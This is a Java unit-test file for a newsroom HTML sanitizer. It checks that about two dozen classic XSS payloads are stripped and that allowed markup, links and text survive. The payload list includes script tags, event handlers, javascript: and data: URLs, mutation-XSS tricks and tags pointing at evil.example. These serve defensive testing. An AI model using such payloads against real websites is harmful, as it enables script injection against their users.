package io.dateline.newsroom;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlSanitizerTests {

    private final HtmlSanitizer sanitizer = new HtmlSanitizer();

    /** Classic XSS vectors: none may leave anything that a browser would run. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">click</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<p onclick=\"alert(1)\" onmouseover=\"alert(2)\">text</p>",
                "<p style=\"background:url(javascript:alert(1))\">text</p>",
                "<svg onload=alert(1)><circle r=1></svg>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<object data=\"https://evil.example/x.swf\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<form action=\"https://evil.example\"><input name=x></form>",
                "<body onload=alert(1)>",
                "<style>p{color:red}</style><p>x</p>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<<script>script>alert(1)<</script>/script>",
                "<img src=`javascript:alert(1)`>",
                "<div><p>nested <b onmouseover=alert(1)>bold</b></p></div>",
                "<table><tr><td background=\"javascript:alert(1)\">cell</td></tr></table>",
                "<a href=\"https://example.org\" target=\"_blank\" onclick=\"x()\">ok</a>",
            })
    void removesEverythingExecutable(String hostile) {
        String clean = sanitizer.clean(hostile).toLowerCase();

        assertThat(clean)
                .doesNotContain("<script", "javascript:", "vbscript:", "data:", "onerror", "onclick", "onload")
                .doesNotContain("onmouseover", "style", "<iframe", "<object", "<embed", "<form", "<svg", "<meta")
                .doesNotContain("<base", "<link", "<body", "target=");
    }

    @Test
    void keepsTheAllowedMarkup() {
        String html = "<h2>Title</h2><p>Text <strong>bold</strong> <em>it</em> <b>b</b> <i>i</i><br></p>"
                + "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote>"
                + "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>"
                + "<img src=\"https://example.org/a.jpg\" alt=\"A\">";

        String clean = sanitizer.clean(html);

        assertThat(clean)
                .contains("<h2>Title</h2>", "<strong>bold</strong>", "<em>it</em>", "<b>b</b>", "<i>i</i>", "<br>")
                .contains("<ul><li>one</li></ul>", "<ol><li>two</li></ol>", "<blockquote>quote</blockquote>")
                .contains("<th>h</th>", "<td>d</td>", "<img src=\"https://example.org/a.jpg\" alt=\"A\">");
    }

    @Test
    void linksKeepHttpUrlsAndGetNofollowNoopener() {
        String clean = sanitizer.clean("<a href=\"https://example.org/x?a=1&amp;b=2\" rel=\"author\">x</a>");

        assertThat(clean).isEqualTo("<a href=\"https://example.org/x?a=1&amp;b=2\" rel=\"nofollow noopener\">x</a>");
    }

    @Test
    void dropsHeadingsOutsideH2ToH4AndDivsButKeepsTheirText() {
        assertThat(sanitizer.clean("<h1>Big</h1><div>in div</div><h5>small</h5>"))
                .isEqualTo("Bigin divsmall");
    }

    @Test
    void keepsCyrillicAsText() {
        assertThat(sanitizer.clean("<p>Лавров заявил</p>")).isEqualTo("<p>Лавров заявил</p>");
    }

    @Test
    void plainTextDecodesEntitiesAndJoinsBlocks() {
        String text = sanitizer.text(sanitizer.clean("<p>Inflation &lt;2% &amp; rising</p><p>Second</p>"));

        assertThat(text).isEqualTo("Inflation <2% & rising Second");
    }
}
